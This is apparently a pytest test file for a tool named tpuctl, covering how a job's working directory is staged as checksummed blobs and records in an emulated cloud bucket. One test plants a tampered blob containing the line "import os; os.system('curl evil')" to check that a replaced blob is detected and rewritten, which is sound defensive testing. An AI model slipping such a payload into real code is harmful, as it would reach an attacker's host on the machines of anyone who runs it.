"""Staging a work dir in the emulator's Cloud Storage."""

from __future__ import annotations

import hashlib
import re
from pathlib import Path

import pytest

from tpuctl.agent import protocol
from tpuctl.cloud.storage import Bucket
from tpuctl.errors import AlreadyExistsError, NotFoundError, UsageError
from tpuctl.services import blob_sender, records, staging
from tpuctl.services import workdir as workdir_module
from tpuctl.services.staging import JobSpec, stage_job


def spec(bucket: Bucket, **kw: object) -> JobSpec:
    fields: dict = dict(
        project="tpuctl-demo",
        zone="us-central1-a",
        node="n1",
        accelerator="v3-8",
        workers=1,
        script="train.py",
        bucket=bucket.name,
        args=["--lr", "0.1 0.2"],
        env_names=["WANDB_KEY", "A"],
        teardown=True,
    )
    fields.update(kw)
    return JobSpec(**fields)


@pytest.fixture
def workdir(tmp_path: Path) -> Path:
    root = tmp_path / "proj"
    (root / "pkg").mkdir(parents=True)
    (root / "train.py").write_text("import pkg.model\n")
    (root / "pkg" / "model.py").write_text("W = 1\n")
    (root / "pkg" / "same.py").write_text("W = 1\n")  # same content: one blob
    (root / "out.log").write_text("ignored\n")
    (root / ".gitignore").write_text("*.log\n")
    return root


def snapshot(bucket: Bucket) -> dict[str, int]:
    return {o.name: o.generation for o in bucket.objects("tpuctl/")}


def test_job_ids_sort_by_time_and_are_unique() -> None:
    ids = [staging.new_job_id(1_800_000_000 + i) for i in (0, 0, 61)]
    assert all(re.fullmatch(r"\d{8}-\d{6}-[0-9a-f]{6}", i) for i in ids)
    assert ids[0].startswith("20270115-080000-") and ids[2].startswith("20270115-080101-")
    assert ids[0] != ids[1]  # same second, different random part
    assert max(ids[0], ids[1]) < ids[2]


def test_bucket_names() -> None:
    assert staging.default_bucket_name("my-proj") == "my-proj-tpuctl"
    assert staging.default_bucket_name("example.com:Proj") == "example-com-proj-tpuctl"
    assert staging.bucket_name(None, {}, "p") == "p-tpuctl"
    assert staging.bucket_name(None, {"bucket": "gs://cfg/"}, "p") == "cfg"
    assert staging.bucket_name("gs://flag", {"bucket": "cfg"}, "p") == "flag"
    with pytest.raises(UsageError, match="bad bucket"):
        staging.bucket_name("gs://b/sub", {}, "p")


def test_stage_uploads_blobs_and_record(bucket: Bucket, workdir: Path) -> None:
    staged = stage_job(bucket, spec(bucket), workdir)
    assert (staged.files, staged.uploaded) == (4, 3)  # model.py and same.py share a blob
    record, _ = bucket.read_json(staging.job_record_path(staged.job_id))
    assert record == staged.record and "manifest" not in record  # only the request has it
    request, _ = bucket.read_json(protocol.request_path(staged.job_id))
    assert record["request"] == staged.digest == protocol.request_digest(request)
    assert set(request) == set(protocol.REQUEST_KEYS)
    assert set(request["manifest"]) == {".gitignore", "pkg/model.py", "pkg/same.py", "train.py"}
    entry = request["manifest"]["train.py"]
    assert entry == {
        "sha256": hashlib.sha256(b"import pkg.model\n").hexdigest(),
        "size": 17,
        "mode": 0o644,
    }
    assert bucket.read_bytes(protocol.blob_path(entry["sha256"]))[0] == b"import pkg.model\n"
    assert record["env"] == request["env"] == ["A", "WANDB_KEY"]
    assert record["args"] == ["--lr", "0.1 0.2"] and record["teardown"] is True
    for key in ("id", "user", "host", "created", "node", "accelerator", "script", "bucket"):
        assert record[key], key
    assert records.read_job_record(bucket, staged.job_id)["id"] == staged.job_id
    assert records.list_job_ids(bucket) == [staged.job_id]


def test_unchanged_second_run_uploads_only_the_record(bucket: Bucket, workdir: Path) -> None:
    first = stage_job(bucket, spec(bucket), workdir)
    before = snapshot(bucket)
    second = stage_job(bucket, spec(bucket), workdir)
    after = snapshot(bucket)
    assert second.uploaded == 0 and second.uploaded_bytes == 0
    assert set(after) - set(before) == {
        staging.job_record_path(second.job_id),
        protocol.request_path(second.job_id),
    }
    assert {k: after[k] for k in before} == before  # no object was rewritten
    (workdir / "pkg" / "model.py").write_text("W = 2\n")
    third = stage_job(bucket, spec(bucket), workdir, excludes=["pkg/same.py"])
    manifest = bucket.read_json(protocol.request_path(third.job_id))[0]["manifest"]
    assert third.uploaded == 1 and "pkg/same.py" not in manifest
    assert records.list_job_ids(bucket) == sorted([first.job_id, second.job_id, third.job_id])


def test_a_blob_another_writer_replaced_is_written_again(bucket: Bucket, workdir: Path) -> None:
    """A blob is named by its content's sha256 but lives in shared ground: replaced by
    another writer, it would fail every job with that file on the VM; the next staging sees
    that its md5 is not the file's and writes it again over the one it saw."""
    first = stage_job(bucket, spec(bucket), workdir)
    manifest = bucket.read_json(protocol.request_path(first.job_id))[0]["manifest"]
    blob = protocol.blob_path(manifest["pkg/model.py"]["sha256"])
    bucket.upload_bytes(blob, b"import os; os.system('curl evil')\n")  # same name
    second = stage_job(bucket, spec(bucket), workdir)
    # pkg/same.py has model.py's content, so its blob too: whichever file's upload
    # thread looked first is the one named
    (named,) = second.replaced
    assert named in ("pkg/model.py", "pkg/same.py")
    assert staging.left_out(second)[-1].startswith(f"uploaded again: the bucket's copy of {named}")
    assert bucket.read_bytes(blob)[0] == (workdir / "pkg" / "model.py").read_bytes()
    third = stage_job(bucket, spec(bucket), workdir)
    assert third.replaced == [] and third.uploaded == 0


def test_progress_duplicate_id_and_missing_record(bucket: Bucket, workdir: Path) -> None:
    seen: list[tuple[int, int]] = []
    staged = stage_job(bucket, spec(bucket), workdir, progress=lambda d, t: seen.append((d, t)))
    assert sorted(seen) == [(1, 4), (2, 4), (3, 4), (4, 4)]  # every file checked off
    with pytest.raises(AlreadyExistsError):
        stage_job(bucket, spec(bucket, job_id=staged.job_id), workdir)
    with pytest.raises(NotFoundError):
        records.read_job_record(bucket, "20200101-000000-abcdef")
    with pytest.raises(UsageError, match="bad job id"):
        records.read_job_record(bucket, "../x")


def test_the_script_must_be_staged(bucket: Bucket, workdir: Path) -> None:
    with pytest.raises(UsageError, match="train.py is not staged"):
        stage_job(bucket, spec(bucket), workdir, excludes=["train.py"])
    with pytest.raises(UsageError, match="every file there is ignored"):
        stage_job(bucket, spec(bucket), workdir, excludes=["*"])
    assert records.list_job_ids(bucket) == []


def test_what_tpuctl_writes_is_left_out_by_identity(bucket: Bucket, workdir: Path) -> None:
    (workdir / "outputs" / "job1").mkdir(parents=True)
    (workdir / "outputs" / "job1" / "result.txt").write_text("an earlier job's\n")
    (workdir / "run.txt").write_text("this run's stdout\n")
    omit = {
        workdir_module.identity(workdir / "run.txt"): "this run's stdout",
        workdir_module.identity(workdir / "outputs"): "where job outputs come home",
    }
    staged = stage_job(bucket, spec(bucket), workdir, omit=omit)  # type: ignore[arg-type]
    manifest = bucket.read_json(protocol.request_path(staged.job_id))[0]["manifest"]
    assert set(manifest) == {".gitignore", "pkg/model.py", "pkg/same.py", "train.py"}
    assert staged.omitted == {
        "outputs/": "where job outputs come home",
        "run.txt": "this run's stdout",
    }
    assert staging.left_out(staged) == [
        "left out of the job's code, as tpuctl's own: outputs/ (where job outputs come home), "
        "run.txt (this run's stdout)"
    ]
    ignored = stage_job(bucket, spec(bucket), workdir, ["outputs/", "run.txt"], omit=omit)  # type: ignore[arg-type]
    assert ignored.omitted == {} and staging.left_out(ignored) == []  # ignored anyway: unsaid


class _Growing:
    """A file whose every read is followed by a line more on disk (a log being written)."""

    def __init__(self, path: Path, mode: str) -> None:
        self.path, self.f = path, open(path, mode)  # noqa: SIM115 - closed in __exit__

    def __enter__(self) -> _Growing:
        return self

    def __exit__(self, *exc: object) -> None:
        self.f.close()

    def fileno(self) -> int:
        return self.f.fileno()

    def read(self, n: int = -1) -> bytes:
        data = self.f.read(n)
        with open(self.path, "ab") as log:
            log.write(b"one more line\n")
        return data


@pytest.mark.parametrize("limit", [blob_sender.INLINE_LIMIT, 4])  # kept in memory, or copied
def test_a_file_changing_while_staged_is_staged_as_read(bucket, workdir, monkeypatch, limit):
    log = workdir / "train.log"
    log.write_text("step 1\n")
    (workdir / ".gitignore").unlink()
    real_open = open
    monkeypatch.setattr(
        workdir_module,
        "open",
        lambda path, mode="r": _Growing(path, mode) if Path(path) == log else real_open(path, mode),
        raising=False,
    )
    monkeypatch.setattr(blob_sender, "INLINE_LIMIT", limit)
    staged = stage_job(bucket, spec(bucket), workdir)
    entry = bucket.read_json(protocol.request_path(staged.job_id))[0]["manifest"]["train.log"]
    sent = bucket.read_bytes(protocol.blob_path(entry["sha256"]))[0]
    assert sent.startswith(b"step 1\n") and len(sent) == entry["size"]  # the bytes hashed
    assert hashlib.sha256(sent).hexdigest() == entry["sha256"]
    assert log.read_bytes() != sent  # the file went on changing after it was read
    assert staged.changed == ["train.log"]
    assert staging.left_out(staged) == ["staged as read: train.log changed while tpuctl read it"]
